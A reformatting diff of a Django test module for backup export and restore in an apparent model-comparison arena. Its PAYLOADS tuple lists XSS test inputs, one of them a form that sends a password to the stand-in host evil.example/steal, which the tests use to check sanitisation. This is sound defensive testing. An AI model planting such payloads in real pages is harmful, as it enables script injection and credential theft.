@@ -19,8 +19,11 @@ from tests.ops.test_backups import empty_database
 
 pytestmark = pytest.mark.django_db(transaction=True)
 
-PAYLOADS = ('<img src=x onerror="alert(1)">', '<a href="javascript:alert(1)">click</a>',
-            '<form action="https://evil.example/steal"><input name="password"></form>')
+PAYLOADS = (
+    '<img src=x onerror="alert(1)">',
+    '<a href="javascript:alert(1)">click</a>',
+    '<form action="https://evil.example/steal"><input name="password"></form>',
+)
 
 
 @pytest.fixture
@@ -28,8 +31,12 @@ def backup(tmp_path) -> Path:
     prompt = factories.prompt(factories.prompt_set("custom"), external_id="q1", turns=("Hello?",))
     factories.comparison(prompt, "alpha", "beta")
     verdicts = tmp_path / "v.jsonl"
-    verdicts.write_text("".join(json.dumps({"model_a": "alpha", "model_b": "beta", "winner": "tie", "rater": who})
-                                + "\n" for who in ("alice", "bob", "alice")))
+    verdicts.write_text(
+        "".join(
+            json.dumps({"model_a": "alpha", "model_b": "beta", "winner": "tie", "rater": who}) + "\n"
+            for who in ("alice", "bob", "alice")
+        )
+    )
     call_command("import_battles", str(verdicts), "--format", "jsonl", "--source", "crowd", "--human")
     call_command("export_all", str(tmp_path / "backup"))
     return tmp_path / "backup"
@@ -89,7 +96,9 @@ def test_a_symlink_out_of_the_backup_folder_is_refused(backup):
 
 
 def test_a_malformed_manifest_is_a_clear_error(backup):
-    (backup / "manifest.json").write_text(json.dumps({"format": "arena-backup", "version": 1, "tables": [{}]}))
+    (backup / "manifest.json").write_text(
+        json.dumps({"format": "arena-backup", "version": 1, "tables": [{}]})
+    )
     empty_database()
     with pytest.raises(CommandError, match=r"'tables' must list objects.*nothing was restored"):
         call_command("import_all", str(backup))
